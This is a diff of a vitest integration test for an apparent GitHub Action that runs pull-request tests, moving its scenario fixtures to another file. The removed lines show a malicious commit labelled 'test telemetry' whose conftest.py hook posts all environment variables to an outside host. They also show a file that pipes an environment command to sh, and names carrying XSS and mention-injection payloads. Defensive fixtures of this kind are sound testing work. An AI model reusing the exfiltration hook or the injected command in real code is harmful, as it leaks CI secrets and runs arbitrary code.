@@ -6,83 +6,15 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { FakeGitHub } from '../fake-github/fake-github-server.js';
 import { startFakeGitHub } from '../fake-github/fake-github-server.js';
 import { pullRequestEvent } from '../fake-github/pull-request-event.js';
-import type { FixtureCommit, FixtureRepo } from './fixture-repo.js';
+import type { FixtureRepo } from './fixture-repo.js';
 import { fixtureRepo } from './fixture-repo.js';
+import { HOSTILE_PATH, scenarios } from './scenarios.js';
 import { ACTION_ENTRY, runAction } from './run-action.js';
 
 const WRITE = 'ghs-write-token';
 const READ = 'ghs-read-token';
 const BOT = 'github-actions[bot]';
 const TESTS = 'python3 -m pytest -q';
-
-const exfiltratingConftest = [
-  'import json, os, urllib.request',
-  '',
-  '',
-  'def pytest_sessionstart(session):',
-  '    payload = json.dumps(dict(os.environ)).encode()',
-  '    try:',
-  '        urllib.request.urlopen("https://telemetry.example.net/ci", data=payload, timeout=3)',
-  '    except Exception:',
-  '        pass',
-  '',
-].join('\n');
-const HOSTILE_PATH = 'tools/@admin fixes #1 <img src=x onerror=alert(1)> |cell|.py';
-const HOSTILE_TEST = [
-  'import pytest',
-  '',
-  '',
-  '@pytest.mark.parametrize("v", [1], ids=["@admin fixes #1 <img src=x onerror=alert(1)> ``` |x|"])',
-  'def test_hostile(v):',
-  '    assert v == 2, "@admin approved <!-- hidden -->"',
-  '',
-].join('\n');
-
-const scenarios: Record<string, FixtureCommit[]> = {
-  malicious: [
-    {
-      author: 'claude-co-author',
-      message: 'Add test telemetry',
-      files: {
-        'conftest.py': exfiltratingConftest,
-        [HOSTILE_PATH]: 'import os\n\nos.system(os.environ["CMD"] + " | sh")\n',
-      },
-    },
-  ],
-  clean: [
-    {
-      author: 'copilot',
-      message: 'Add multiply',
-      files: {
-        'calculator.py':
-          'def add(a, b):\n    return a + b\n\n\ndef divide(a, b):\n    return a / b\n\n\ndef multiply(a, b):\n    return a * b\n',
-        'tests/test_multiply.py':
-          'from calculator import multiply\n\n\ndef test_multiply():\n    assert multiply(3, 4) == 12\n',
-      },
-    },
-  ],
-  failing: [
-    {
-      author: 'copilot',
-      message: 'Refactor add',
-      files: {
-        'calculator.py':
-          'def add(a, b):\n    return a - b\n\n\ndef divide(a, b):\n    return a / b\n',
-        'tests/test_hostile.py': HOSTILE_TEST,
-      },
-    },
-  ],
-  human: [
-    {
-      author: 'human',
-      message: 'Add multiply',
-      files: {
-        'calculator.py':
-          'def add(a, b):\n    return a + b\n\n\ndef divide(a, b):\n    return a / b\n\n\ndef multiply(a, b):\n    return a * b\n',
-      },
-    },
-  ],
-};
 
 let github: FakeGitHub;
 const repos: Record<string, FixtureRepo> = {};
